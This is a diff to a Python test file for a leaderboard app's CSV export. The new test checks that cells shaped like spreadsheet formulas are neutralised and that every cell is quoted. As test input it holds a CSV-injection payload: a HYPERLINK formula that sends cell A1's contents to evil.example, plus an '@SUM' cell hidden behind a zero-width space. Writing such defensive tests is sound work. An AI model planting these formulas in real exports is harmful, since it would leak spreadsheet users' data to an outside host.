@@ -124,9 +124,16 @@ def test_it_neutralises_csv_cells_that_start_like_a_formula(start):
     assert parsed["R@10"] == "50.00"  # numbers stay numbers (percent, as the pages show them)
 
 
-def test_it_leaves_ordinary_csv_cells_alone():
-    from boards.exports import csv_cell
+def test_it_neutralises_a_formula_after_a_separator_and_quotes_every_cell():
+    """``x;=HYPERLINK(…)``: a spreadsheet in a ``;``-separated locale splits the cell there and runs the rest."""
+    from boards.exports import to_csv
+    from boards.selectors import LeaderboardRow
 
-    assert csv_cell("BM25 (k1=0.9)") == "BM25 (k1=0.9)"
-    assert csv_cell("") == ""
-    assert csv_cell(3) == 3
+    text = 'x;=HYPERLINK("http://evil.example/?"&A1,"x")'
+    row = LeaderboardRow(rank=1, kind="scored", submission_id=1, system=text, owner="bob", family="other",
+                         paper_url="", code_url="", date=None, scores={"R@10": 0.5}, team=" \u200b@SUM(A1)")
+    out = to_csv([row], measures=["R@10"])
+    parsed = next(csv.DictReader(io.StringIO(out)))
+    assert parsed["system"] == "x;'" + text[2:]
+    assert parsed["team"] == "' \u200b@SUM(A1)"
+    assert all(line.startswith('"') and line.endswith('"') for line in out.splitlines())
